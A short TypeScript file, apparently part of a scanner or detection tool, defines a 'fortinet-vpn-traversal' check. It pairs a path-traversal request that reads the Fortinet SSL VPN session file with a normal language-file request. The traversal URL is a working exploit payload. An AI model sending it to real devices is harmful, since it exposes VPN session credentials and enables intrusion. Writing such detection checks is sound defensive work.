import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'fortinet-vpn-traversal',
    get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'),
    get('/remote/fgt_lang?lang=en'),
  ),
]
